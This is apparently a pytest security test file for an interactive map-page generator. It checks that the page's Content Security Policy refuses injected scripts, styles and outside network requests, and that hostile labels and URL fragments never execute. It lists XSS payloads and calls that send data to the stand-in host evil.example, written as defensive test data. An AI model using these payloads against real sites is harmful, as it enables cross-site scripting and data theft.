"""What pages may run and ask for: no text in them runs, and only the base map is asked."""

import json
import re
import shutil
from dataclasses import replace
from urllib.parse import quote

import pytest
from browser_acts import click
from browser_pages import HOSTILE, squares
from browser_values import place_of

from geogp.commands.compare_runs import compare_runs
from geogp.commands.gallery import make_gallery
from geogp.maps.page.interactive_page import TILE_HOSTS, map_page
from geogp.maps.page.page_assets import page_scripts, page_styles

ATTACKS = [
    ("script-src", "add('script', {textContent: 'window.hacked = 1'})"),
    ("script-src", "add('script', {src: 'https://evil.example/x.js'})"),
    ("script-src", "add('script', {src: 'data:text/javascript,window.hacked=1'})"),
    ("script-src", "add('div', {innerHTML: '<img src=x onerror=\"window.hacked = 1\">'})"),
    ("script-src", "setTimeout('window.hacked = 1')"),
    (
        "script-src",
        "new Worker(URL.createObjectURL(new Blob(['fetch(\"https://evil.example\")'])))",
    ),
    ("style-src", "add('style', {textContent: 'body { display: none !important }'})"),
    ("style-src", "add('div', {innerHTML: '<p style=\"position: fixed\">x</p>'})"),
    ("style-src", "add('link', {rel: 'stylesheet', href: 'https://evil.example/x.css'})"),
    ("connect-src", "fetch('https://evil.example/').catch(() => {})"),
    ("connect-src", "navigator.sendBeacon('https://evil.example/', 'x')"),
    ("connect-src", "new WebSocket('wss://evil.example/')"),
    ("connect-src", "new EventSource('https://evil.example/')"),
    ("img-src", "new Image().src = 'https://evil.example/x.png'"),
    ("img-src", "document.body.style.backgroundImage = 'url(https://evil.example/x.png)'"),
    ("frame-src", "add('iframe', {src: 'https://evil.example/'})"),
    ("script-src", "add('iframe', {srcdoc: '<script>parent.hacked = 1</' + 'script>'})"),
    ("object-src", "add('object', {data: 'https://evil.example/x.pdf'})"),
    ("default-src", "new FontFace('x', 'url(https://evil.example/x.woff)').load().catch(() => {})"),
    ("form-action", "add('form', {action: 'https://evil.example/', method: 'post'}).submit()"),
    ("base-uri", "add('base', {href: 'https://evil.example/'})"),
]
"""What a script could do, were it to run, and the rule against it."""

TRY = """() => {
  const add = (tag, given) => {
    const made = Object.assign(document.createElement(tag), given);
    document.body.append(made);
    return made;
  };
  try { ATTACK } catch (error) { /* some refusals are errors */ }
}"""


def attack(seen):
    """Try every attack on a page; each must be refused by its rule, and do nothing."""
    for rule, script in ATTACKS:
        seen.evaluate(TRY.replace("ATTACK", script))
        for _ in range(100):
            if any(f"{rule} " in fault for fault in seen.faults):
                break
            seen.wait_for_timeout(20)
        else:
            pytest.fail(f"expected that {rule} refuses {script}, found {seen.faults}")
        seen.wait_for_timeout(40)  # some are refused twice
        assert all("Content Security Policy" in fault for fault in seen.faults), script
        seen.faults.clear()
    assert seen.evaluate("window.hacked") is None


def attacked(content, kept=("id", "target", "array", "bound", "data", "colours")):
    """Return the data of a page with an attack in every text that people read."""
    if isinstance(content, dict):
        return {k: v if k in kept else attacked(v) for k, v in content.items()}
    if isinstance(content, list):
        return [attacked(one) for one in content]
    return f"{HOSTILE}{content}" if isinstance(content, str) else content


@pytest.fixture(scope="module")
def hostile_everywhere(made):
    """A page whose every text attacks it."""
    region = made.content.region
    region = replace(region, name=HOSTILE, strata=replace(region.strata, words=HOSTILE))
    counties = squares(region, HOSTILE, [HOSTILE] * 3)
    data = attacked(made.data)
    return data, map_page(data, region, counties, attribution=HOSTILE, notes=[HOSTILE])


def tour(seen, data):
    """Show every layer, compare, move both sliders, click, search, and show all.

    Returns the text of a tooltip, which goes when another layer is shown.
    """
    place = place_of(data["frame"], 12, 15)
    for layer in (*(one["id"] for one in data["layers"]), "live"):
        seen.update(layer=layer, point=place)
    seen.update(beside="width", split=0.3, threshold=data["threshold"]["values"][0], quarter=0)
    click(seen, place)
    for box in seen.locator("#geogp-marks input").all():
        box.click()
    seen.click("#geogp-notes summary")
    seen.fill("#geogp-search-field", HOSTILE)
    seen.keyboard.press("Enter")
    seen.click(".geogp-home button")
    seen.update(layer="slice-0", beside=None, point=None)
    seen.hover(".leaflet-interactive")
    told = seen.inner_text(".leaflet-tooltip")
    seen.update(layer="probability", point=place)
    return told


@pytest.mark.trial
def test_no_text_of_a_page_runs(visit, hostile_everywhere):
    data, page = hostile_everywhere
    seen = visit(page)
    assert HOSTILE[:30] in tour(seen, data)
    assert seen.evaluate("window.hacked") is None
    assert seen.locator("img:not(.leaflet-tile)").count() == 0
    # The attacks were there, as text: in title, layers, quarters, places, strata and legend.
    for where in ("h1", "#geogp-layers", "#geogp-quarter-words", "#geogp-marks", "#geogp-legend"):
        assert HOSTILE[:30] in seen.inner_text(where), where
    for where in ("#geogp-place", "#geogp-credits", "#geogp-notes p"):
        assert HOSTILE[:30] in seen.inner_text(where), where
    named = seen.locator(f"#geogp-places option[value^={json.dumps(HOSTILE)}]").count()
    assert named == len(data["places"]) > 5


@pytest.mark.trial
def test_no_text_of_the_address_runs(visit, made):
    names = ("layer", "beside", "quarter", "threshold", "split", "point", "at", "z", HOSTILE)
    for attack in (HOSTILE, quote(HOSTILE), "javascript:window.hacked=1"):
        wishes = [f"{name}={attack}" for name in names]
        seen = visit(made.page, hash="#" + "&".join(wishes))
        usual = seen.state
        for wish in wishes:
            seen.evaluate("wish => { location.hash = wish; }", wish)
            seen.settle()
            assert seen.state == usual
        assert seen.evaluate("window.hacked") is None


@pytest.mark.trial
def test_only_the_base_map_is_asked(visit, made):
    seen = visit(made.page)
    tour(seen, made.data)
    asked = {re.match(r"https://[^/]*", address)[0] for address in seen.asked}
    assert asked == set(TILE_HOSTS)


@pytest.mark.trial
def test_a_page_without_base_map_asks_nothing(visit, make):
    made = make(base_map=False)
    seen = visit(made.page)
    tour(seen, made.data)
    seen.update(quarter=made.data["shown"])
    assert seen.picture()["data"].count(255) > 1000
    assert seen.asked == []
    assert seen.evaluate("geogp.page.map.getMaxZoom()") == 20


def test_the_policy_refuses_what_a_script_would_do(visit, made):
    attack(visit(made.page))


@pytest.mark.trial
@pytest.mark.parametrize("script", [0, 1, 2], ids=["Leaflet", "folium", "own"])
def test_a_script_that_was_changed_does_not_run(visit, made, script):
    text = re.findall("<script>(.*?)</script>", made.page, re.DOTALL)[script]
    word = re.search("function|center", text)[0]
    changed = made.page.replace(text, text.replace(word, word.capitalize(), 1))
    assert sum(a != b for a, b in zip(made.page, changed, strict=True)) == 1
    seen = visit(changed, ready=False)
    assert any("Content Security Policy" in fault for fault in seen.faults)
    # Without its script the map's name is that of its empty box.
    map_kind = "geogp_map instanceof Element ? 'undefined' : typeof geogp_map"
    kind = seen.evaluate(f"[typeof L, {map_kind}, typeof geogp]")[script]
    assert kind == "undefined"
    assert seen.evaluate("document.documentElement.dataset.geogp") is None
    seen.faults.clear()


@pytest.mark.trial
def test_a_style_that_was_changed_is_not_used(visit, made):
    text = page_styles()[1]
    changed = made.page.replace(text, text.replace("margin: 0", "margin: 9", 1))
    seen = visit(changed)
    assert seen.evaluate("getComputedStyle(document.body).display") == "block"
    (fault,) = seen.faults
    assert "Content Security Policy" in fault
    seen.faults.clear()


def test_what_ships_is_what_npm_has(npm):
    leaflet, _ = page_scripts()
    dist = npm / "leaflet" / "dist"
    assert (dist / "leaflet.js").read_text("utf-8").startswith(leaflet)


@pytest.fixture(scope="module")
def documents(runs, tmp_path_factory):
    """Report, comparison and gallery of runs whose names attack them."""
    folder = tmp_path_factory.mktemp("documents")
    first = runs("small").path
    second = shutil.copytree(first, folder / "<img src=x onerror=hacked=1>")
    told = json.loads((second / "run.json").read_text("utf-8"))
    (second / "run.json").write_text(json.dumps(told | {"region_name": HOSTILE}), "utf-8")
    compare_runs([first, second], out=folder / "comparison")
    page = make_gallery([first, second], out=folder / "gallery").page
    return {
        "report": (first / "report.html").read_text("utf-8"),
        "comparison": (folder / "comparison" / "compare.html").read_text("utf-8"),
        "gallery": page.read_text("utf-8"),
    }


@pytest.mark.trial
@pytest.mark.parametrize("name", ["report", "comparison", "gallery"])
def test_other_pages_show_all_ask_nothing_and_refuse_the_same(visit, documents, artefacts, name):
    seen = visit(documents[name], ready=False)
    assert seen.evaluate("window.hacked") is None
    assert seen.evaluate("getComputedStyle(document.body).marginTop") == "0px"
    assert seen.evaluate("[...document.images].every(one => one.complete && one.naturalWidth > 0)")
    assert seen.locator("img").count() > 0
    if name == "gallery":
        seen.click("#numbers thead button >> nth=0")
        assert seen.get_attribute("#numbers thead th >> nth=0", "aria-sort") == "ascending"
        ticks = [one.bounding_box()["x"] for one in seen.locator(".ticks text").all()]
        assert ticks == sorted(ticks)
        assert len(set(ticks)) > 2
    for width in (1440, 390):
        seen.set_viewport_size({"width": width, "height": 900})
        # No stratum's card takes the columns of another part of the page.
        columns = "one => getComputedStyle(one).display != 'block'"
        assert not seen.evaluate(f"[...document.querySelectorAll('.grid .card')].some({columns})")
        seen.screenshot(path=artefacts / f"{name}-{width}.png", full_page=True)
    attack(seen)
    assert seen.asked == []
